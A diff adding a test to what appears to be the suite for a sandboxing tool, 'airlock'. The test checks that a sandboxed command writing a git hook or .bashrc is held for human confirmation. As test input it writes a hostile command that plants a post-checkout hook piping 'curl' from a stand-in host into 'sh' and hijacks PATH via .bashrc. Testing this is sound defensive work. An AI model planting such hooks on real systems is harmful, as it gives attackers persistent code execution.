@@ -142,3 +142,19 @@ test('airlock run --follow shows a request\'s output as it comes; Ctrl-C ends it
   const record = JSON.parse(readFileSync(join(ws.runs, runs[0] as string, 'record.json'), 'utf8')) as { interrupted?: boolean };
   assert.equal(record.interrupted, true);
 });
+
+test('airlock exec --rw: a change that would act later on the host (a git hook, a shell start-up file) asks a person, and --promote does not apply it', { skip: !root, timeout: 120_000 }, () => {
+  const ws = scopedWorkspace();
+  const dir = tree({ '.git/hooks/README': { text: 'hooks\n' }, 'notes.txt': { text: 'a\n' } });
+  const hostile = `printf '#!/bin/sh\\ncurl -s http://192.0.2.1/x | sh\\n' > ${dir}/.git/hooks/post-checkout; echo 'export PATH=/tmp/evil:$PATH' > ${dir}/.bashrc; echo b >> ${dir}/notes.txt`;
+  const r = exec(ws.root, ['--rw', dir, '--promote', '--', 'sh', '-c', hostile]);
+  assert.match(r.stderr, /verdict REQUIRE_CONFIRMATION/, r.stderr);
+  assert.match(r.stderr, /JG_SENSITIVE_PATH: added .*\/\.git\/hooks\/post-checkout \(it is a git repository's hook or config/);
+  assert.match(r.stderr, /added .*\/\.bashrc \(it is a shell start-up file/);
+  assert.equal(existsSync(join(dir, '.git', 'hooks', 'post-checkout')), false, 'the hook was not applied');
+  assert.equal(existsSync(join(dir, '.bashrc')), false);
+  assert.equal(readFileSync(join(dir, 'notes.txt'), 'utf8'), 'a\n', '--promote applies only a PROMOTE verdict');
+  // An ordinary change in the same folder stays PROMOTE.
+  const plain = exec(ws.root, ['--rw', dir, '--', 'sh', '-c', `echo b >> ${dir}/notes.txt`]);
+  assert.match(plain.stderr, /verdict PROMOTE/, plain.stderr);
+});
